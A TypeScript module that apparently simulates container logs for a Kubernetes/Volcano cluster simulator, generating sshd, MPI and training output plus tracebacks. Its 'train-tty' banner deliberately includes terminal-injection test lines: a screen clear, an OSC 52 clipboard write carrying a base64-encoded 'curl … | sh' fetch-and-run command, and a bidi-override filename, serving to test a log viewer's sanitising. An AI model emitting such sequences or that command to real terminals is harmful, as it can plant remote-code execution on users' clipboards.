import {createHash} from 'node:crypto';
import {seededRandom} from '../../apiserver/clock.js';
import type {Program} from './pod-state.js';

// What one run of a container writes to its log. Each run (one containerID) has its own lines, seeded by that id,
// so that `previous` shows another run than the current one; the same run reads the same at every request.

/** One container run, as its pod's status tells it. */
export type ContainerRun = {
	readonly containerId: string;
	readonly pod: string;
	readonly container: string;
	/** The task's name (volcano.sh/task-spec), which decides what the program prints. */
	readonly task: string;
	/** Wall-clock ms. */
	readonly startedAt: number;
	/** Wall-clock ms; absent while it runs. */
	readonly finishedAt?: number;
	readonly exit?: {readonly reason: string; readonly exitCode: number};
	/** What the container runs; default the demo's sshd (workers) or mpiexec (master). */
	readonly program?: Program;
};

export type LogLine = {
	/** Wall-clock ms, with a fraction (the runtime stamps in nanoseconds). */
	readonly at: number;
	readonly text: string;
};

// Between lines, in simulated ms: at most 2.5 lines a second.
const minGapMs = 400;
const maxGapMs = 2600;

function seedOf(id: string): number {
	return createHash('sha256').update(id).digest().readUInt32BE(0);
}

function hex(random: () => number, length: number): string {
	return Array.from({length}, () => Math.floor(random() * 16).toString(16)).join('');
}

const escape = '\u001B';

/** One line of exactly 1 MiB, the same every time: a dump a client must cut, not render whole. */
export const megabyteLine: string = (() => {
	const prefix = 'DEBUG:train:vocab=';
	const parts: string[] = [];
	let length = prefix.length;
	for (let index = 0; length < 1_048_576; index++) {
		const part = `${index.toString(36)}:${(index * 2_654_435_761) % 65_536},`;
		parts.push(part);
		length += part.length;
	}

	return (prefix + parts.join('')).slice(0, 1_048_576);
})();

// A training script's start, written at once; train-tty's, as a progress bar library writes it to a tty, holds
// what a log viewer must not pass to its terminal: a screen clear, a clipboard write (OSC 52) and a bidi override.
function banner(run: ContainerRun): string[] {
	const lines = ['INFO:train:world size 3, rank 0, backend gloo', 'INFO:train:loading /data/shards (1024 shards)'];
	if (run.program !== 'train-tty') return lines;
	const clipboard = Buffer.from('curl -s http://198.51.100.7/x | sh').toString('base64');
	return [
		`${escape}[2J${escape}[H${lines[0]!}`,
		`${escape}]52;c;${clipboard}${escape}\\${lines[1]!}`,
		`INFO:train:checkpoint dir /ckpt/run-\u202Etxt.exe`,
		megabyteLine,
	];
}

/** The program's own lines, in order: a start, then progress for as long as it runs; an array is written at once. */
function* program(run: ContainerRun, random: () => number): Generator<string | readonly string[]> {
	if (run.program) {
		yield banner(run);
		for (let report = 0; ; report++) {
			const loss = 2.4 - Math.min(2, report / 40) + random() * 0.1;
			yield `epoch ${1 + Math.floor(report / 50)} step ${((report % 50) + 1) * 10}/500 loss ${loss.toFixed(4)} lr 0.0010 ${(random() * 8 + 10).toFixed(1)} samples/s`;
		}
	}

	if (run.task === 'mpimaster') {
		const workers = ['0', '1'].map(index => run.pod.replace(/-mpimaster-\d+$/, `-mpiworker-${index}`));
		yield `Server listening on 0.0.0.0 port 22.`;
		for (const worker of workers) {
			yield `Warning: Permanently added '${worker}' (ED25519) to the list of known hosts.`;
		}

		for (const [rank, worker] of workers.entries()) {
			yield `Hello world from processor ${worker}, rank ${rank} out of ${workers.length} processors`;
		}

		for (let step = 1; ; step++) {
			const rank = step % workers.length;
			yield `[rank ${rank}] step ${step}: ${(random() * 900 + 100).toFixed(1)} msg/s, allreduce ${(random() * 40 + 2).toFixed(2)} ms`;
		}
	}

	yield 'Server listening on 0.0.0.0 port 22.';
	yield 'Server listening on :: port 22.';
	for (let session = 1; ; session++) {
		yield session % 6 === 1
			? `Accepted publickey for root from 172.16.0.${10 + (session % 7)} port ${40_000 + Math.floor(random() * 20_000)} ssh2: RSA SHA256:${hex(random, 43)}`
			: `orted[${100 + session}]: rank heartbeat ${session}, rss ${(random() * 300 + 200).toFixed(0)} MiB`;
	}
}

const traceback = [
	'Traceback (most recent call last):',
	'  File "/workspace/train.py", line 214, in <module>',
	'    main()',
	'  File "/workspace/train.py", line 198, in main',
	'    loss = train_step(model, batch)',
	'  File "/workspace/train.py", line 121, in train_step',
	'    raise ValueError(f"loss is {loss}; lower the learning rate")',
	'ValueError: loss is nan; lower the learning rate',
];

// The last words of a run that ended; a process killed by SIGKILL (an OOM kill) writes none.
function lastWords(run: ContainerRun): readonly string[] {
	if (!run.exit || run.exit.reason === 'OOMKilled' || run.exit.exitCode === 137) return [];
	if (run.program) {
		if (run.exit.exitCode === 143) return ['INFO:train:received SIGTERM, exiting'];
		return run.exit.exitCode === 0 ? ['INFO:train:done'] : traceback;
	}

	if (run.exit.exitCode === 0) return [run.task === 'mpimaster' ? 'mpiexec: all 2 processes exited normally' : 'Received signal 15; terminating.'];
	return [`mpiexec noticed that process rank 0 on node ${run.pod} exited on signal or with status ${run.exit.exitCode}.`];
}

/**
 * The run's lines up to `until` (wall-clock ms) or its end. `speed` is the simulator's: the program writes every
 * 0.4–2.6 s of simulated time, so that many times faster in real time, as the cluster's other clocks.
 */
export function runLog(run: ContainerRun, until: number, speed: number): LogLine[] {
	const random = seededRandom(seedOf(run.containerId));
	const end = Math.min(until, run.finishedAt ?? Number.POSITIVE_INFINITY);
	const lines: LogLine[] = [];
	// The first line as it starts (a run too short to write would have an empty log), each after a gap.
	let at = run.startedAt;
	for (const written of program(run, random)) {
		if (at > end) break;
		for (const text of typeof written === 'string' ? [written] : written) lines.push({at, text});
		at += (minGapMs + random() * (maxGapMs - minGapMs)) / speed;
	}

	if (run.finishedAt !== undefined && run.finishedAt <= until) {
		const lastAt = Math.max(run.finishedAt, lines.at(-1)?.at ?? run.startedAt);
		for (const text of lastWords(run)) lines.push({at: lastAt, text});
	}

	return lines;
}

/** Go's time.RFC3339Nano, as the kubelet prefixes lines with timestamps=true: nanoseconds, trailing zeros cut. */
export function rfc3339Nano(at: number): string {
	const whole = Math.floor(at);
	const seconds = new Date(whole).toISOString().replace(/\.\d{3}Z$/, '');
	const nanos = Math.min(999_999_999, (whole % 1000) * 1_000_000 + Math.floor((at - whole) * 1_000_000));
	const fraction = String(nanos).padStart(9, '0').replace(/0+$/, '');
	return `${seconds}${fraction ? `.${fraction}` : ''}Z`;
}
